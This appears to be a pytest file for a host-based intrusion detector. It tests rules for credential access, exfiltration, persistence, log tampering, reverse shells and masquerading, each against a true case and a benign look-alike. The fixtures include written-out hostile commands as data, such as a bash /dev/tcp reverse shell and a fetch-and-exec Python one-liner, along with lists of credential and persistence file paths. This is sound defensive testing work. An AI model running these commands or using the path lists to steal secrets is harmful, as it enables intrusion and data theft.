"""The context fields beyond the original: each true for the attack, false for a look-alike.

Processes run as uid 0 here, whose ``~`` is /root (and every other passwd home); a uid without
a passwd entry has no ``~`` at all.
"""

from __future__ import annotations

import dataclasses

import pytest

from analyzer.core import Analyzer
from tests.analyzer.analyzer_sequences import Seq, ex, hist
from policy import Policy

O_RDONLY, O_WRONLY_CREAT_TRUNC, O_WRONLY_APPEND, O_WRONLY_TRUNC = 0, 0x241, 0x441, 0x201
TREE = {"tree_id": 3, "shard": 3}


def root_seq(**common) -> Seq:
    return Seq(uid=0, common={**TREE, **common})


# ---------------------------------------------------------------- credential_access

def test_credential_read_by_a_tool(core):
    s = root_seq().exec(1, 201, "/usr/bin/cat", ["cat", "/root/.ssh/id_rsa"]).open(1.1, 201, "/root/.ssh/id_rsa")
    h = hist(core, s)
    assert h.credential_access and not h.credential_then_network


def test_credential_read_by_its_consumer_in_a_system_dir(core):
    s = root_seq().exec(1, 201, "/usr/bin/ssh", ["ssh", "host"]).open(1.1, 201, "/root/.ssh/id_rsa")
    assert not hist(core, s).credential_access


def test_consumer_name_outside_system_dirs_is_not_a_consumer(core):
    s = root_seq().exec(1, 201, "/tmp/d/ssh", ["ssh"]).open(1.1, 201, "/root/.ssh/id_rsa")
    assert hist(core, s).credential_access


@pytest.mark.parametrize("path", ["/root/.aws/credentials", "/root/.kube/config", "/root/.netrc",
                                  "/root/.git-credentials", "/srv/app/.env", "/.env",
                                  "/root/.config/gcloud/legacy_credentials/x/adc.json"])
def test_credential_patterns(core, path):
    s = root_seq().exec(1, 201, "/usr/bin/cat").open(1.1, 201, path)
    assert hist(core, s).credential_access


@pytest.mark.parametrize("path", ["/root/.ssh/known_hosts", "/root/.ssh/config", "/root/.kube/cache/x",
                                  "/srv/app/.envrc", "/root/.aws/cli/cache/x.json"])
def test_credential_look_alikes(core, path):
    s = root_seq().exec(1, 201, "/usr/bin/cat").open(1.1, 201, path)
    assert not hist(core, s).credential_access


def test_tilde_is_the_process_own_home(core):
    """A uid with no passwd entry has no ``~``; /root/... is not its home."""
    s = Seq(uid=4_000_000, common=TREE).exec(1, 201, "/usr/bin/cat").open(1.1, 201, "/root/.ssh/id_rsa")
    assert not hist(core, s).credential_access


def test_writing_a_credential_file_is_not_reading_it(core):
    s = root_seq().exec(1, 201, "/usr/bin/tee").open(1.1, 201, "/root/.aws/credentials", 0x241)
    assert not hist(core, s).credential_access


def test_credential_then_network_either_order_within_the_window(core):
    s = root_seq().exec(1, 201, "/usr/bin/curl").connect(2, 201, "93.184.216.34", 443)
    s.open(11.9, 201, "/root/.aws/credentials")
    assert hist(core, s).credential_then_network
    late = root_seq().exec(1, 201, "/usr/bin/curl").open(2, 201, "/root/.aws/credentials")
    late.connect(12.1, 201, "93.184.216.34", 443)               # 10.1 s > the bundled 10 s
    h = hist(Analyzer(core.policy), late)
    assert h.credential_access and not h.credential_then_network


# ---------------------------------------------------------------- persistence_write, log_tampering

@pytest.mark.parametrize("path", ["/root/.bashrc", "/etc/cron.d/job", "/root/.ssh/authorized_keys",
                                  "/srv/repo/.git/hooks/pre-commit", "/root/.config/systemd/user/x.service",
                                  "/etc/ld.so.preload", "/var/spool/cron/crontabs/root"])
def test_persistence_write(core, path):
    s = root_seq().exec(1, 201, "/usr/bin/tee").open(1.1, 201, path, O_WRONLY_APPEND)
    assert hist(core, s).persistence_write


def test_reading_a_persistence_file_is_not_writing_it(core):
    s = root_seq().exec(1, 201, "/usr/bin/cat").open(1.1, 201, "/root/.bashrc", O_RDONLY)
    s.open(1.2, 201, "/srv/repo/.git/config", O_WRONLY_CREAT_TRUNC)
    assert not hist(core, s).persistence_write


def test_persistence_write_hidden_by_a_noise_filter_still_counts(core):
    s = root_seq().open(1, 100, "/root/.bashrc", O_WRONLY_APPEND, hidden="runtime_noise")
    assert hist(core, s).persistence_write


def test_persistence_by_rename_onto_and_chmod(core):
    s = root_seq().exec(1, 201, "/usr/bin/mv").event("rename", 1.1, 201, path="/tmp/k",
                                                     new_path="/root/.ssh/authorized_keys")
    assert hist(core, s).persistence_write
    s2 = root_seq().exec(1, 201, "/usr/bin/chmod").event("chmod", 1.1, 201, path="/etc/cron.d/job", mode=0o755)
    assert hist(Analyzer(core.policy), s2).persistence_write


def test_log_tampering_by_truncating_open(core):
    s = root_seq().exec(1, 201, "/bin/sh").open(1.1, 201, "/root/.bash_history", O_WRONLY_TRUNC)
    assert hist(core, s).log_tampering


def test_appending_to_a_log_is_not_tampering(core):
    s = root_seq().exec(1, 201, "/usr/bin/logger").open(1.1, 201, "/var/log/app.log", O_WRONLY_APPEND)
    assert not hist(core, s).log_tampering


@pytest.mark.parametrize("kind, fields", [("unlink", {"path": "/var/log/auth.log"}),
                                          ("truncate", {"path": "/var/log/auth.log", "length": 0}),
                                          ("rename", {"path": "/tmp/x", "new_path": "/var/log/auth.log"})])
def test_log_tampering_by_schema_2_kinds(core, kind, fields):
    s = root_seq().exec(1, 201, "/usr/bin/rm").event(kind, 1.1, 201, **fields)
    assert hist(core, s).log_tampering


def test_unlinking_a_scratch_file_is_not_tampering(core):
    s = root_seq().exec(1, 201, "/usr/bin/rm").event("unlink", 1.1, 201, path="/tmp/x.log")
    assert not hist(core, s).log_tampering


# ---------------------------------------------------------------- security_tool_discovery

def test_security_tool_discovery_by_argv_and_by_path(core):
    s = root_seq().exec(1, 201, "/usr/bin/pgrep", ["pgrep", "-f", "osqueryd"])
    assert hist(core, s).security_tool_discovery
    s2 = root_seq().exec(1, 201, "/usr/bin/cat").open(1.1, 201, "/etc/falco/falco.yaml")
    assert hist(Analyzer(core.policy), s2).security_tool_discovery


def test_security_tool_look_alikes(core):
    s = root_seq().exec(1, 201, "/usr/bin/grep", ["grep", "-r", "falcon_heavy", "src/"])
    s.open(1.1, 201, "/srv/project/audit_report.txt")
    assert not hist(core, s).security_tool_discovery


# ---------------------------------------------------------------- written_then_interpreted

def test_written_script_run_by_an_interpreter(core):
    s = root_seq().exec(1, 201, "/usr/bin/tee").open(1.1, 201, "/tmp/x.py", O_WRONLY_CREAT_TRUNC)
    s.exec(2, 202, "/usr/bin/python3", ["python3", "-u", "/tmp/x.py"])
    h = hist(core, s)
    assert h.written_then_interpreted and h.write_then_exec_same_path     # the operand runs


def test_written_script_given_relative_is_matched_when_opened(core):
    s = root_seq().exec(1, 201, "/usr/bin/tee").open(1.1, 201, "x.sh", O_WRONLY_CREAT_TRUNC, abspath="/tmp/d/x.sh")
    s.exec(2, 202, "/bin/sh", ["sh", "-e", "./x.sh"])
    assert not hist(core, s).written_then_interpreted        # not yet: the shell opens it next
    s.open(2.1, 202, "./x.sh", O_RDONLY, abspath="/tmp/d/x.sh")
    assert hist(Analyzer(core.policy), s).written_then_interpreted


@pytest.mark.parametrize("argv", [["bash", "-c", "cat /tmp/x.sh"], ["python3", "-m", "json.tool", "/tmp/x.sh"],
                                  ["python3", "/srv/tool.py", "/tmp/x.sh"]])
def test_interpreter_reading_a_written_file_as_data_is_not_interpreting_it(core, argv):
    s = root_seq().exec(1, 201, "/usr/bin/tee").open(1.1, 201, "/tmp/x.sh", O_WRONLY_CREAT_TRUNC)
    s.exec(2, 202, "/usr/bin/" + argv[0], argv).open(2.1, 202, "/tmp/x.sh", O_RDONLY)
    assert not hist(core, s).written_then_interpreted


# ---------------------------------------------------------------- shell_network

def test_shell_network_bash_dev_tcp(core):
    s = root_seq().exec(1, 201, "/bin/bash", ["bash", "-c", "exec 3<>/dev/tcp/10.0.0.9/4444"])
    s.connect(1.1, 201, "10.0.0.9", 4444)
    assert hist(core, s).shell_network


def test_shell_network_from_a_forked_subshell(core):
    s = root_seq().exec(1, 201, "/bin/bash", ["bash", "-c", "( cat < /dev/tcp/10.0.0.9/80 )"])
    s.parents[205] = 201
    s.connect(1.1, 205, "10.0.0.9", 80)                  # the subshell never exec'd
    assert hist(core, s).shell_network


def test_curl_connect_is_not_shell_network(core):
    s = root_seq().exec(1, 201, "/bin/bash", ["bash", "-c", "curl x"]).exec(1.1, 202, "/usr/bin/curl", parent=201)
    s.connect(1.2, 202, "93.184.216.34", 443)
    assert not hist(core, s).shell_network


# ---------------------------------------------------------------- inline_network_spawn

def test_inline_code_that_connects_then_starts_a_program(core):
    """python3 -c "exec(urlopen(...).read())": the fetched code runs `id`; no file to name."""
    s = root_seq().exec(1, 201, "/usr/bin/python3", ["python3", "-c", "from urllib.request import urlopen"])
    s.connect(1.1, 201, "127.0.0.1", 8080)
    s.exec(1.2, 202, "/usr/bin/id", ["id"], parent=201, role="routine")   # a routine exec counts too
    assert hist(core, s).inline_network_spawn


@pytest.mark.parametrize("argv", [["python3", "/srv/app/fetch.py"], ["python3", "-m", "pip", "download", "x"]])
def test_a_script_or_module_that_connects_then_spawns_is_not_inline(core, argv):
    s = root_seq().exec(1, 201, "/usr/bin/python3", argv)
    s.connect(1.1, 201, "127.0.0.1", 8080)
    s.exec(1.2, 202, "/usr/bin/git", ["git", "status"], parent=201)
    assert not hist(core, s).inline_network_spawn


def test_inline_code_that_spawns_without_connecting_or_a_sibling_that_connects(core):
    s = root_seq().exec(1, 201, "/bin/sh", ["sh", "-c", "curl -O x; ls"])
    s.exec(1.1, 202, "/usr/bin/curl", ["curl", "-O", "x"], parent=201)
    s.connect(1.2, 202, "127.0.0.1", 8080)                # curl connects, not the shell
    s.exec(1.3, 203, "/usr/bin/ls", ["ls"], parent=201)
    assert not hist(core, s).inline_network_spawn


def test_a_credential_open_that_failed_read_nothing(core):
    s = root_seq().exec(1, 201, "/usr/bin/cat", ["cat", "/root/.npmrc"])
    s.open(1.1, 201, "/root/.npmrc", ret=-2).connect(1.2, 201, "1.1.1.1", 443)
    h = hist(core, s)
    assert not h.credential_access and not h.credential_then_network
    ok = root_seq().exec(1, 201, "/usr/bin/cat", ["cat", "/root/.npmrc"]).open(1.1, 201, "/root/.npmrc")
    assert hist(Analyzer(core.policy), ok).credential_access


def test_another_process_memory_read_then_a_connect_is_credential_then_network(core):
    """python3 reads /proc/<pid>/mem of a process outside the tree and posts what it found."""
    s = root_seq().exec(1, 201, "/usr/bin/python3", ["python3", "-"])
    s.open(1.1, 201, "/proc/1/mem").connect(1.5, 201, "127.0.0.1", 8080)
    h = hist(core, s)
    assert h.foreign_process_read and h.credential_then_network and not h.credential_access


# ---------------------------------------------------------------- discovery_burst, bulk_replace

def _run(s, t, tgid, name, role=None):
    extra = {"role": role} if role else {}
    return s.exec(t, tgid, f"/usr/bin/{name}", [name], **extra)


def test_a_sweep_of_distinct_discovery_programs(core):
    s = root_seq()
    for i, name in enumerate(("id", "uname", "ip", "ss", "ps")):
        _run(s, 1 + i / 10, 201 + i, name, role="routine" if name == "id" else None)
    assert hist(core, s).discovery_burst


def test_the_same_program_again_or_a_slow_sweep_is_no_burst(core):
    s = root_seq()
    for i in range(8):
        _run(s, 1 + i / 10, 201 + i, "ps")                   # one program, eight times
    _run(s, 2, 220, "id").exec(2.1, 221, "/usr/bin/uname", ["uname", "-a"])
    assert not hist(core, s).discovery_burst
    slow = root_seq()
    for i, name in enumerate(("id", "uname", "ip", "ss", "ps")):
        _run(slow, 1 + 3 * i, 201 + i, name)                  # 12 s: outside the 10 s window
    assert not hist(Analyzer(core.policy), slow).discovery_burst


def _replace(s, t, i, unlink=True):
    s.write(t, 200, f"/home/u/p/f{i}.py.locked")
    if unlink:
        s.event("unlink", t + 0.01, 200, path=f"/home/u/p/f{i}.py", syscall="unlink", ret=0, dirfd=-100, flags=0)


def test_files_replaced_by_derived_copies_in_a_burst(core):
    s = root_seq()
    for i in range(5):
        _replace(s, 1 + i / 10, i)
    assert hist(core, s).bulk_replace


def test_copies_kept_beside_their_originals_or_too_few_are_not_bulk_replace(core):
    kept = root_seq()                                         # gzip -k, openssl without rm
    for i in range(8):
        _replace(kept, 1 + i / 10, i, unlink=False)
    assert not hist(core, kept).bulk_replace
    few = root_seq()
    for i in range(4):
        _replace(few, 1 + i / 10, i)
    few.event("unlink", 2, 200, path="/home/u/p/other.py", syscall="unlink", ret=0, dirfd=-100, flags=0)
    assert not hist(Analyzer(core.policy), few).bulk_replace
    own = root_seq()                                          # a runtime cycling its own cache files
    for i in range(8):
        own.write(1 + i / 10, 200, f"/home/u/.cache/db{i}.sqlite")
        own.write(1.05 + i / 10, 200, f"/home/u/.cache/db{i}.sqlite.bak")
        own.event("unlink", 1.06 + i / 10, 200, path=f"/home/u/.cache/db{i}.sqlite", syscall="unlink", ret=0,
                  dirfd=-100, flags=0)
    assert not hist(Analyzer(core.policy), own).bulk_replace


# ---------------------------------------------------------------- execution: masquerade, hidden, unresolved

@pytest.mark.parametrize("path, argv", [("/tmp/d/id", ["id"]), ("/tmp/d/x", ["sshd"]),
                                        ("/usr/bin/python3", ["sshd", "-D"]), ("/home/u/bin/ps", ["ps"])])
def test_masquerade(core, path, argv):
    assert ex(core, root_seq().exec(1, 201, path, argv)).masquerade


@pytest.mark.parametrize("path, argv, exe", [
    ("/usr/bin/id", ["id"], None), ("/bin/sh", ["sh"], "/usr/bin/dash"), ("/bin/bash", ["-bash"], None),
    ("/home/u/proj/.venv/bin/python3", ["python3", "x.py"], "/usr/bin/python3.11"),
    ("/home/u/.nvm/versions/node/v22/bin/node", ["node", "app.js"], None),
    ("/tmp/d/payload", ["payload"], None)])
def test_masquerade_look_alikes(core, path, argv, exe):
    assert not ex(core, root_seq().exec(1, 201, path, argv, exe=exe)).masquerade


def test_masquerade_by_renaming_itself_is_seen_at_exit(core):
    s = root_seq().exec(1, 201, "/tmp/d/x", ["x"]).exit(2, 201, comm="kworker/0:1")
    assert ex(core, s).masquerade
    s2 = root_seq().exec(1, 201, "/usr/bin/python3", ["python3"]).exit(2, 201, comm="kworker/0:1")
    assert not ex(Analyzer(core.policy), s2).masquerade      # a system binary may name itself


def test_hidden_path_exec(core):
    assert ex(core, root_seq().exec(1, 201, "./.x86", abspath="/tmp/d/.x86")).hidden_path_exec
    assert not ex(Analyzer(core.policy), root_seq().exec(1, 201, "./x86", abspath="/tmp/d/x86")).hidden_path_exec


def test_unresolved_exec_fails_closed(core):
    assert ex(core, root_seq().exec(1, 201, "./x", abspath="", exe="/tmp/d/x")).unresolved_exec
    resolved = root_seq().exec(1, 201, "./x", abspath="/tmp/d/x")
    assert not ex(Analyzer(core.policy), resolved).unresolved_exec
    assert core.stats()["unresolved_paths"] == 1


# ---------------------------------------------------------------- overflow

def test_overflow_is_flagged_and_counted(bundled: Policy):
    small = dataclasses.replace(bundled, analysis=dataclasses.replace(bundled.analysis, history_index_cap=4))
    below, above = root_seq(), root_seq()
    for i in range(4):
        below.open(1 + i, 201, f"/tmp/w{i}", O_WRONLY_CREAT_TRUNC)
        above.open(1 + i, 201, f"/tmp/w{i}", O_WRONLY_CREAT_TRUNC)
    above.open(6, 201, "/tmp/w4", O_WRONLY_CREAT_TRUNC)
    assert not hist(Analyzer(small), below).overflow
    core = Analyzer(small)
    assert hist(core, above).overflow
    assert core.stats()["history_overflows"] == 1
    ev = core.sessions[1].marks.evidence.refs["history.overflow"]
    assert ev == ((6 * 10**9, 201, "open", "/tmp/w4"),)


def test_entries_older_than_the_horizon_do_not_count_towards_the_cap(bundled: Policy):
    small = dataclasses.replace(bundled, analysis=dataclasses.replace(
        bundled.analysis, history_index_cap=2, history_horizon_seconds=10))
    s = root_seq()
    for i in range(6):
        s.open(1 + i * 11, 201, f"/tmp/w{i}", O_WRONLY_CREAT_TRUNC)
    assert not hist(Analyzer(small), s).overflow


def test_overflow_carries_over_to_later_sessions_of_the_tree(bundled: Policy):
    small = dataclasses.replace(bundled, analysis=dataclasses.replace(bundled.analysis, history_index_cap=1))
    core = Analyzer(small)
    first = root_seq()
    first.open(1, 201, "/tmp/a", O_WRONLY_CREAT_TRUNC).open(2, 201, "/tmp/b", O_WRONLY_CREAT_TRUNC)
    assert hist(core, first).overflow
    second = Seq(session_id=2, uid=0, common=TREE).open(3, 201, "/etc/hostname")
    assert hist(core, second).overflow
    assert core.sessions[2].marks.evidence.refs["history.overflow"] == ((2 * 10**9, 201, "open", "/tmp/b"),)


def test_processes_whose_exit_is_never_seen_do_not_fill_the_images_index(bundled: Policy):
    """A busy tree runs routine execs whose exits the sessionizer may drop: their images age out
    with the horizon instead of filling the index (a false overflow)."""
    small = dataclasses.replace(bundled, analysis=dataclasses.replace(
        bundled.analysis, history_index_cap=3, history_horizon_seconds=10))
    s = root_seq()
    for i in range(12):
        s.exec(1 + i * 4, 300 + i, "/usr/bin/uname", ["uname", "-a"], role="routine")
    assert not hist(Analyzer(small), s).overflow


def test_git_writing_its_sample_hooks_is_not_persistence(core):
    s = root_seq().exec(1, 201, "/usr/bin/git", ["git", "clone", "x"])
    s.open(1.1, 201, "/srv/repo/.git/hooks/pre-commit.sample", O_WRONLY_CREAT_TRUNC)
    s.open(1.2, 201, "/srv/repo/.git/config", O_WRONLY_CREAT_TRUNC)
    assert not hist(core, s).persistence_write
